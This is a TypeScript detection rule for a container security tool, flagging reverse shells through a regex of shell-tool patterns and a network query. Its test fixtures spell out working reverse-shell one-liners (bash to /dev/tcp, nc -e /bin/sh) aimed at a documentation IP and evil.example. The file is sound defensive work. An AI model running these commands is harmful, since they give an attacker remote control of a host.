import type { BuiltInRule } from '../built-in-rule';

/** What one types for a reverse shell in the languages that images have. */
const SHELLS = String.raw`(\/dev\/(tcp|udp)\/|\bn(c|cat|etcat)(\.traditional)?\b[^|;]* -[a-z]*[ec]\b|\bmkfifo\b.*\bnc(at)?\b|\bsocat\b.*(exec|system):|pty\.spawn|\bsocket\.connect|fsockopen\(|TCPSocket\.(new|open)|\b(ba)?sh +-i +(>|<|2>))`;

export const reverseShellRun: BuiltInRule = {
  kind: 'rule',
  name: 'reverse-shell-run',
  title: 'A shell connected with an address',
  about:
    'A program was run that gives a shell to whoever waits at an address, as its command says or as what watches the runtime tells; or a shell or nc in a container opened a connection to the internet.',
  level: 'critical',
  confidence: 'medium',
  types: ['node'],
  techniques: ['T1059.004', 'T1071'],
  matrix: ['MS-TA9006'],
  falsePositives: 'Scripts that wait for a port by /dev/tcp: look at the address.',
  next: [
    { title: 'All that was seen of the pod', q: 'pod:"NAME" | count by type, message' },
    { title: 'Whom the pod talked to', q: 'type:network src_pod:"NAME" | count by dst_ip, dst_port, host' },
  ],
  q: String.raw`type:node (command:/${SHELLS}/ or proc.cmdline:/${SHELLS}/ or rule:/(reverse shell|redirect std(in|out).*network)/ or event_name:reverse_shell or (event:process_connect process.binary:/\/(ba|da|a|z|k)?sh$|\/n(c|cat|etcat)$|\/socat$/ -dst_ip:(10.0.0.0/8 or 172.16.0.0/12 or 192.168.0.0/16 or 100.64.0.0/10 or 127.0.0.0/8 or 169.254.0.0/16 or fc00::/7 or fe80::/10 or ::1))) -(command:/\/dev\/tcp\/(127\.0\.0\.1|localhost|\$)/ or proc.cmdline:/\/dev\/tcp\/(127\.0\.0\.1|localhost|\$)/)`,
  by: ['node', 'namespace', 'pod'],
  hits: [
    { type: 'node', attributes: { 'proc.cmdline': 'bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' } },
    { type: 'node', attributes: { command: '/usr/bin/nc 203.0.113.9 4444 -e /bin/sh' } },
    { type: 'node', attributes: { rule: 'Redirect STDOUT/STDIN to Network Connection in Container' } },
    {
      type: 'node',
      fields: { pod: 'web-0', dst_ip: '203.0.113.9', dst_port: 443 },
      attributes: {
        event: 'process_connect',
        command: '/usr/bin/nc evil.example 443',
        'process.binary': '/usr/bin/nc',
      },
    },
  ],
  misses: [
    { type: 'node', attributes: { command: 'nc -zv db 5432' } },
    { type: 'node', attributes: { command: 'sh -c until echo > /dev/tcp/localhost/5432; do sleep 1; done' } },
    {
      type: 'node',
      fields: { pod: 'web-0', dst_ip: '10.96.0.7', dst_port: 5432 },
      attributes: { event: 'process_connect', command: '/usr/bin/nc db 5432', 'process.binary': '/usr/bin/nc' },
    },
  ],
};
